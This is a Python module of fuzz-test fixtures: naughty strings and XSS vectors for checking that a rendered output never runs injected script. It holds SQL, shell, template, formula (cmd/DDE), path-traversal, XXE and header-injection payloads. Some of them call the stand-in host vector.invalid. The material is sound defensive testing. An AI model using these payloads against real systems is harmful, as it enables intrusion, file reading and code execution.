"""Hostile texts for every field that strangers fill: more than 515 naughty strings and 200 script
vectors, made here.

Sorted by what each kind has broken in other people's programs (docs/faults.md C1, C2, C4-C6, D4).
Reusable: a test of any outlet puts them into every field it shows, loads it with `in_chromium`, and
finds `Ran` empty.
"""

from itertools import product

CALL = "window.ran=(window.ran||0)+1;alert(1)"
ELSEWHERE = "http://vector.invalid"

_WORDS = ("undefined", "null", "NULL", "nil", "None", "NaN", "Infinity", "-Infinity", "true", "False", "constructor", "__proto__", "hasOwnProperty", "then", "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", ".", "..", "~", "-", "--", "--help", "-rf", "*", "?", "\\", "/", "//", "/dev/null", "C:\\", "\\\\host\\share")  # fmt: skip
_NUMBERS = ("0", "-0", "1", "-1", "1.00", "1e309", "-1e309", "0x10", "0b1", "1_000", "1,000.5", "1/0", "0/0", "99999999999999999999", "2147483648", "-9223372036854775809", "1e-400", "٠١٢٣", "１２３", "①②③", "½", "二〇一二", "1.2.3.4", "00", "+1", "1.")  # fmt: skip
_INVISIBLE = tuple(chr(c) for c in (0x00AD, 0x034F, 0x061C, 0x115F, 0x17B4, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xE0001, 0xE0041, 0x1D173))  # fmt: skip
_SPACES = tuple(
    chr(c)
    for c in (
        0x20,
        0x09,
        0x0A,
        0x0B,
        0x0C,
        0x0D,
        0x85,
        0xA0,
        0x1680,
        *range(0x2000, 0x200B),
        0x202F,
        0x205F,
        0x3000,
    )
)
_CONTROLS = tuple(chr(c) for c in (*range(0x01, 0x20), 0x7F, *range(0x80, 0xA0)))
_SCRIPTS = ("田中さんにあげて下さい", "㐀㐁㐂 𠀀𠜎𡃁", "繁體字：財政決算其他支出", "사회과학원 어학연구소", "Ω≈ç√∫˜µ≤≥÷", "Œ„´‰ˇÁ¨ˆØ∏”’", "ЁЂЃЄЅІЇ", "זה מבחן", "هَٰذَا نَصّ", "ভাষা", "ภาษาไทย", "Ṱ̺̺̕o͞ ̷i̲̬n̝̗v̟̜o̘̪k͚e̦̘̖", "👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ʇǝsʇ", "Ｆｕｌｌ ｗｉｄｔｈ", "𝓱𝓮𝓵𝓵𝓸", "ﷺ" * 20, "ẞßſﬁ", "İıĞ", "a\u0301" * 50)  # fmt: skip
_SQL = ("1;DROP TABLE finding", "'; DROP TABLE finding; --", "1' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "') OR ('1'='1", "%", "_", "%_%", "\\%", "a]b", "[a]", "a\"b", "a`b", "a'b''c", "NEAR(a b)", "a AND", "a OR", "NOT a", "\"unclosed", "a*", "^a", "col:a", "{a b}:c", "(a", "a)", "-a", "+a", "a NEAR/2 b", ";ATTACH DATABASE '/tmp/x' AS x", "/*", "*/", "x'00'", "CHAR(0)", "UNION SELECT sqlite_version()", "sqlite_master", "randomblob(1e9)")  # fmt: skip
_SHELL = ("$(touch /tmp/x)", "`touch /tmp/x`", ";id", "|id", "&&id", "> /tmp/x", "< /etc/passwd", "$HOME", "${IFS}", "%USERPROFILE%", "!!", "#", "\\n", "$$", "'$(id)'", "\"$(id)\"")  # fmt: skip
_TEMPLATES = ("{{7*7}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{%", "%}", "{{", "}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{}", "{n}", "{label}", "{0.__class__}", "%s%s%s%n", "%d", "%(x)s", "%x" * 10, "$1", "\\1", "[[7*7]]", "@{7*7}", "*{7*7}", "~{x}")  # fmt: skip
_FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("http://vector.invalid/","x")', "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://vector.invalid/\"),\"//a\")", "DDE(\"cmd\";\"/C calc\")", "=WEBSERVICE(\"http://vector.invalid/\")", "'=1", "\"=1\"", "=\u200b1", "\ufeff=1", "=A1:A9", "{=1}", "#REF!", "=1;2", "-2+3+cmd|' /C calc'!D2", "%0A=1", "|calc")  # fmt: skip
_PATHS = ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.pdf", "....//....//x", "%2e%2e%2fx", "..%c0%afx", "file:///etc/passwd", "a/b", "a\\b", "nul.txt", "con.pdf", "x" * 300 + ".pdf", "报告.pdf\u202excod.exe", "~root", "-x.pdf", ".hidden", "a:b", "a?b", "a*b", "a|b", "a<b>", "trailing.", "trailing ", "aux", "a\x00b")  # fmt: skip
_HEADERS = ("a\r\nBcc: x@vector.invalid", "a\nSet-Cookie: x=1", "a\rX: y", "a%0d%0aX: y", "a\u2028b", "a\u2029b", "a\x0bb", "=?utf-8?q?=0ABcc:_x?=", "x" * 998, "x" * 5000, "a\x85b", "a: b", "<a@b>", "\"a\" <x@vector.invalid>", "a,b@c", "a;b@c")  # fmt: skip
_ESCAPES = ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://vector.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J", "\x1b[?1049h", "\x9b31m", "\x1bP1;1|x\x1b\\", "\x07", "\x08\x08\x08", "\r覆盖", "\x1b[10A", "\x1b[6n", "[red]marked[/red]", "[link=http://vector.invalid]x[/link]", "[/]", "[bold", ":smile:", "\x0e\x0f", "\x1bc")  # fmt: skip
_BIDI = ("\u202e财政\u202c", "\u2066a\u2069", "a\u202db", "\u200f\u200e", "\u2067其他\u2069", "2012\u202e3102", "\u061cx")  # fmt: skip
_SYMBOLS = (
    ",./;'[]\\-=",
    '<>?:"{}|_+',
    "!@#$%^&*()`~",
    "¡™£¢∞§¶•ªº–≠",
    *"'\"`´‘’“”«»„‹›<>&;%#|^~",
    *(chr(c) for c in range(0x2190, 0x21A4)),
    *(chr(c) for c in range(0xFF01, 0xFF10)),
)
_HOSTS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//vector.invalid", "http://vector.invalid/", "HTTPS://VECTOR.INVALID", "www.vector.invalid", "mailto:x@vector.invalid", "http://a@b@vector.invalid", "http://vector.invalid\\@a", "http:/\\vector.invalid", "ftp://vector.invalid", "tel:110", "http://[::1", "http://a:99999/", "blob:x", "view-source:http://vector.invalid")  # fmt: skip
_JSON = ('{"a":1}', "[1,2", '"', "\\u0000", "\\ud800", "\u0000", "</script>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "&lt;b&gt;", "&#60;", "&#x3c;script&#x3e;", "&amp;amp;", "&nbsp;", "%3Cscript%3E", "\ud800", "\udfff", "a\ud83d", "\ud83d\ude00")  # fmt: skip


def naughty() -> tuple[str, ...]:
    """At least 515 strings, each once. Some hold NULs and lone surrogates: nobody promised that
    text is text.
    """
    plain = (
        *_WORDS, *_NUMBERS, *_SCRIPTS, *_SQL, *_SHELL, *_TEMPLATES, *_FORMULAS, *_PATHS, *_HEADERS, *_ESCAPES, *_BIDI, *_SYMBOLS, *_HOSTS, *_JSON,
        *(f"财政{mark}局" for mark in (*_INVISIBLE, *_SPACES, *_CONTROLS)), *_SPACES, *_INVISIBLE, "", "x" * 40_000, "其他" * 9_000,
    )  # fmt: skip
    return tuple(dict.fromkeys(plain))


_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpageshow",
    "onhashchange",
)
_WRAPS = (
    "{}",
    "\"'>{}",
    "</title></style></textarea></script>{}",
    "-->{}",
    "]]>{}",
    "</option></select>{}",
    "&lt;x&gt;{}",
    "\x00{}",
)


def vectors() -> tuple[str, ...]:
    """At least 200 ways to run `CALL` or to have something fetched from `ELSEWHERE`, were they ever
    taken for markup.
    """
    elements = (
        f"<script>{CALL}</script>",
        f"<ScRiPt >{CALL}</sCrIpT >",
        f"<script src={ELSEWHERE}/x.js></script>",
        f"<script/x>{CALL}</script/x>",
        f"<img src=x onerror={CALL}>",
        f'<img src=x onerror="{CALL}"//',
        f"<image href=x onerror={CALL}>",
        f"<img src={ELSEWHERE}/x.png>",
        f"<svg onload={CALL}>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
        f"<math><mtext></p><img src=x onerror={CALL}></math>",
        f"<body onload={CALL}>",
        f'<iframe src="javascript:{CALL}"></iframe>',
        f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
        f"<iframe src={ELSEWHERE}></iframe>",
        f'<object data="javascript:{CALL}"></object>',
        f"<embed src={ELSEWHERE}>",
        f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
        f"<style>@import '{ELSEWHERE}/x.css';body{{background:url({ELSEWHERE}/x.png)}}</style>",
        f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
        f"<base href={ELSEWHERE}>",
        f"<video src={ELSEWHERE}/x.mp4 onerror={CALL}></video>",
        f"<audio autoplay src=x onerror={CALL}></audio>",
        f"<details open ontoggle={CALL}>x</details>",
        f"<input autofocus onfocus={CALL}>",
        f"<marquee onstart={CALL}>x</marquee>",
        f"<form action={ELSEWHERE}><button autofocus onfocus={CALL}>x</button></form>",
        f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
        f'<a href="javascript:{CALL}" autofocus onfocus={CALL}>x</a>',
        f'<xss style="animation-name:x" onanimationstart={CALL}></xss>',
    )
    wrapped = [wrap.format(element) for wrap, element in product(_WRAPS, elements)]
    attributes = [
        f"{quote} {event}={CALL} autofocus tabindex=1 x={quote}"
        for quote, event in product(('"', "'", "`", ""), _EVENTS)
    ]
    return tuple(dict.fromkeys([*wrapped, *attributes]))


OTHER = (
    "其他支出", "其它支出", "其 他 支 出", "其\u3000他支出", "其\u200b他支出", "\u200b其\u200c他\u200d支出", "其\u2060他支出", "其\ufeff他支出", "其\u00a0他支出", "其\u00ad他支出",
    "（其他支出）", "(其他支出)", "﹙其他支出﹚", "【其他支出】", "\u202a其他\u202c支出", "\u2066其他\u2069支出", "其他\t支出", "　其他支出　", "其\u180e他支出", "其它\u200f支出",
)  # fmt: skip
NOT_OTHER = (
    "其中：支出",
    "其余支出",
    "其中",
    "其余",
    "其\u200b中：支出",
    "其 余 支 出",
    "极其他山之石",
)
